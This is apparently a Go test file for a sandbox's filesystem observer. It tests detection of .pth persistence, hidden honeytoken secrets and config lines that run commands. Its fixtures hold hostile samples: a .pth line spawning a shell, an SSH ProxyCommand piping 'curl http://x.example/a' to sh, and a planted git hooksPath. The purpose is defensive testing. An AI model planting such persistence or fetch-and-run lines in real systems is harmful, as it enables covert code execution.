package observe

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/internal/observe/honeytoken"
)

// A .pth written after more throwaway files than MaxFSEvents keeps its
// event (with its first bytes), and the throwaway files over the bound are
// counted.
func TestDiffPersistenceFirst(t *testing.T) {
	after := Snapshot{}
	for i := 0; i < MaxFSEvents+100; i++ {
		after[fmt.Sprintf("/tmp/a/junk%04d", i)] = FileState{Size: 1, Ino: uint64(i + 1)}
	}
	pth := "/work/.venv/lib/python3.11/site-packages/zz.pth"
	after[pth] = FileState{Size: 9, Ino: 99999}
	d := &Differ{Read: func(string, int64) ([]byte, error) { return []byte("import os"), nil }, Deadline: time.Now().Add(time.Minute)}
	evs, dropped := d.Diff(Snapshot{}, after)
	if dropped != 101 {
		t.Errorf("dropped %d, want 101", dropped)
	}
	for _, e := range evs {
		if e.Path == pth && e.Data == "import os" {
			return
		}
	}
	t.Fatalf("the .pth is not among the %d events kept", len(evs))
}

// A big file is scanned whole in overlapping windows: a secret across the
// first window's end and a .pth's import line past its first MiB are
// found; a backend that sends only a file's start says it was not read
// whole.
func TestDiffBigFiles(t *testing.T) {
	secret := "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY"
	big := bytes.Repeat([]byte{0xfe}, MaxScanFile-10)
	big = append(append(big, secret...), bytes.Repeat([]byte{0x01}, 2<<20)...)
	pth := append(bytes.Repeat([]byte("#"+strings.Repeat("x", 1023)+"\n"), 1500), "import os; os.system('sh')\n"...)
	files := map[string][]byte{"/work/cache.bin": big, "/work/v/site-packages/x.pth": pth}
	after, read := inMemory(files)
	d := &Differ{Tokens: []honeytoken.Token{{ID: "aws", Value: secret}}, Deadline: time.Now().Add(time.Minute),
		Read: func(p string, n int64) ([]byte, error) { return read(p, 0, n) }, ReadAt: read}
	evs, _ := d.Diff(Snapshot{}, after)
	var written, code bool
	for _, e := range evs {
		written = written || (e.Kind == "honeytoken-written" && e.Path == "/work/cache.bin")
		code = code || (strings.HasSuffix(e.Path, "x.pth") && e.Data == "import os; os.system('sh')" && !strings.Contains(e.Detail, NotReadWhole))
	}
	if !written || !code {
		t.Errorf("secret across windows found %v, the .pth's import line %v: %+v", written, code, evs)
	}
	d.ReadAt = nil // a backend that sends only the start
	evs, _ = d.Diff(Snapshot{}, after)
	for _, e := range evs {
		if strings.HasSuffix(e.Path, "x.pth") && !strings.HasSuffix(e.Detail, NotReadWhole) {
			t.Errorf("the .pth read in part does not say so: %+v", e)
		}
	}
}

// A secret written after more throwaway files than MaxFSEvents, in a
// file's content or split over file names, is still found (red team,
// issue 12: 700 empty files, then the secret's base64 in /tmp/zz-cache,
// was only "events dropped", low).
func TestDiffSecretsPastTheBudget(t *testing.T) {
	const val = "Q7hZk2mVfP9xLr4TnW8bYc3JdS6gHa1Ee5uKo0Ri"
	hx := fmt.Sprintf("%x", val)
	after := Snapshot{}
	for i := 0; i < MaxFSEvents+100; i++ {
		after[fmt.Sprintf("/tmp/a%04d.tmp", i)] = FileState{Size: 1, Ino: uint64(i + 1)}
	}
	after["/tmp/zz-cache"] = FileState{Size: 56, Ino: 90001}
	// four chunks whose names sort in another order than the secret's;
	// their sequence numbers put them back
	for i, seq := range []int{3, 1, 4, 2} {
		after[fmt.Sprintf("/tmp/q/%s-%d.part", hx[(seq-1)*20:seq*20], seq)] = FileState{Size: 1, Ino: uint64(90010 + i)}
	}
	read := func(p string, n int64) ([]byte, error) {
		if p == "/tmp/zz-cache" {
			return []byte("Q7hZ" + base64.StdEncoding.EncodeToString([]byte(val))), nil
		}
		return nil, nil
	}
	d := &Differ{Tokens: []honeytoken.Token{{ID: "t", Value: val}}, Read: read, Deadline: time.Now().Add(time.Minute)}
	evs, dropped := d.Diff(Snapshot{}, after)
	var content, names bool
	for _, e := range evs {
		if e.Kind != "honeytoken-written" || e.Name != "t" {
			continue
		}
		content = content || e.Path == "/tmp/zz-cache"
		names = names || (e.Path == "/tmp/q/" && strings.Contains(e.Detail, "number (hex)"))
	}
	if !content || !names || dropped == 0 {
		t.Fatalf("content %v, names %v, dropped %d: %v", content, names, dropped, evs[len(evs)-3:])
	}
	// no number, names in another order: the order they were made
	after = Snapshot{}
	for seq := 1; seq <= 4; seq++ {
		after[fmt.Sprintf("/tmp/r/%c-%s", 'e'-seq, hx[(seq-1)*20:seq*20])] = FileState{Size: 1, Ino: uint64(100 + seq), Ctime: int64(1000 + seq/2)}
	}
	evs, _ = d.Diff(Snapshot{}, after)
	if len(evs) == 0 || evs[len(evs)-1].Kind != "honeytoken-written" || !strings.Contains(evs[len(evs)-1].Detail, "creation (hex)") {
		t.Fatalf("by creation: %v", evs)
	}
}

// A sparse file of a GiB with secrets behind its holes (one in a run of
// data between two holes, one at its end) is read by its data alone
// (DataAt: lseek's SEEK_DATA and SEEK_HOLE): both are found, and the
// holes cost no budget.
func TestDiffSparseFile(t *testing.T) {
	secrets := map[int64]string{300 << 20: "Q7hZk2mVfP9xLr4TnW8bYc3JdS6gHa1Ee5uKo0Ri", 1 << 30: "ghp_R2d7Kq9ZmX4vN8bT1cW6yL3pH5sJ0fA2eG7u"}
	dir := t.TempDir()
	p := dir + "/cache.idx"
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	var tokens []honeytoken.Token
	for at, v := range secrets {
		tokens = append(tokens, honeytoken.Token{ID: fmt.Sprint(at), Value: v})
		if _, err := f.WriteAt([]byte(base64.StdEncoding.EncodeToString([]byte(v))), at); err != nil {
			t.Fatal(err)
		}
	}
	_ = f.Close()
	start, _, err := DataAt(p, 0)
	if err != nil || start == 0 {
		t.Skipf("the file system of %s does not tell holes (SEEK_DATA at 0: %d, %v)", dir, start, err)
	}
	fi, _ := os.Stat(p)
	after := Snapshot{"/tmp/cache.idx": FileState{Size: fi.Size(), Ino: 7}}
	host := func(string) string { return p }
	d := &Differ{Tokens: tokens, Deadline: time.Now().Add(time.Minute),
		Read:   func(q string, n int64) ([]byte, error) { return ReadBounded(host(q), n) },
		ReadAt: func(q string, off, n int64) ([]byte, error) { return ReadBoundedAt(host(q), off, n) },
		Data:   func(q string, off int64) (int64, int64, error) { return DataAt(host(q), off) }}
	evs, _ := d.Diff(Snapshot{}, after)
	found := map[string]bool{}
	for _, e := range evs {
		if e.Kind == "honeytoken-written" {
			found[e.Name] = true
		}
		if e.Kind == "file-created" && strings.HasSuffix(e.Detail, NotReadWhole) {
			t.Errorf("the sparse file was not read whole: %+v", e)
		}
	}
	for _, tok := range tokens {
		if !found[tok.ID] {
			t.Errorf("the secret at %s behind a hole is not found: %+v", tok.ID, evs)
		}
	}
}

// Files past the content budget are not read, and that is counted with
// the events dropped (a finding), never silent.
func TestDiffScanBudgetCounted(t *testing.T) {
	after := Snapshot{}
	for i := range 3 {
		after[fmt.Sprintf("/tmp/pad%d", i)] = FileState{Size: MaxScanTotal / 2, Ino: uint64(i + 1)}
	}
	pad := make([]byte, MaxScanFile+1)
	read := func(_ string, _, n int64) ([]byte, error) { return pad[:min(n, int64(len(pad)))], nil }
	d := &Differ{Deadline: time.Now().Add(time.Minute), Read: func(p string, n int64) ([]byte, error) { return read(p, 0, n) }, ReadAt: read}
	evs, dropped := d.Diff(Snapshot{}, after)
	if dropped != 1 {
		t.Errorf("dropped %d, want 1 (the content search's cut): %+v", dropped, evs)
	}
}

// A configuration that runs a command keeps the line that does, wherever
// it is in the file (red team, session 18: hooksPath and ProxyCommand
// after 2 KB of comment were past the KiB an event kept, and gave no
// finding); more such lines than kept make the file not read whole.
func TestDiffConfigLines(t *testing.T) {
	pad := "# " + strings.Repeat("x", 2000) + "\n"
	files := map[string][]byte{
		"/home/a/.gitconfig": []byte("[user]\n\tname = Dana\n" + pad + "[core]\n\thooksPath = /tmp/.h\n"),
		"/home/a/.ssh/config": []byte("Host *\n" + pad + strings.Repeat("# ProxyCommand is not here\n", 40) +
			"  ProxyCommand sh -c 'curl -s http://x.example/a|sh'\n"),
		"/home/a/.aws/config": func() []byte {
			b := []byte("[default]\n")
			for i := 0; i < 40; i++ {
				b = fmt.Appendf(b, "[profile p%d]\ncredential_process = /bin/true %d\n", i, i)
			}
			return b
		}(),
	}
	after, read := inMemory(files)
	d := &Differ{Deadline: time.Now().Add(time.Minute), Read: func(p string, n int64) ([]byte, error) { return read(p, 0, n) }, ReadAt: read}
	evs, _ := d.Diff(Snapshot{}, after)
	want := map[string]bool{"/home/a/.gitconfig": false, "/home/a/.ssh/config": false, "/home/a/.aws/config": false}
	for _, e := range evs {
		switch e.Path {
		case "/home/a/.gitconfig":
			want[e.Path] = strings.Contains(e.Data, "hooksPath = /tmp/.h") && !strings.Contains(e.Detail, NotReadWhole)
		case "/home/a/.ssh/config":
			want[e.Path] = strings.Contains(e.Data, "ProxyCommand sh -c") && !strings.Contains(e.Detail, NotReadWhole)
		case "/home/a/.aws/config":
			want[e.Path] = strings.HasSuffix(e.Detail, NotReadWhole) // 40 lines: past the bound
		}
	}
	for p, ok := range want {
		if !ok {
			t.Errorf("%s: the command line is not kept (or a cut file not said so): %+v", p, evs)
		}
	}
}

// inMemory is a walk of files, each written by the run, and a reader of
// them, for a Differ.
func inMemory(files map[string][]byte) (Snapshot, func(p string, off, n int64) ([]byte, error)) {
	after := Snapshot{}
	for p, b := range files {
		after[p] = FileState{Size: int64(len(b)), Ino: uint64(len(p))}
	}
	return after, func(p string, off, n int64) ([]byte, error) {
		b := files[p]
		return b[min(off, int64(len(b))):min(off+n, int64(len(b)))], nil
	}
}
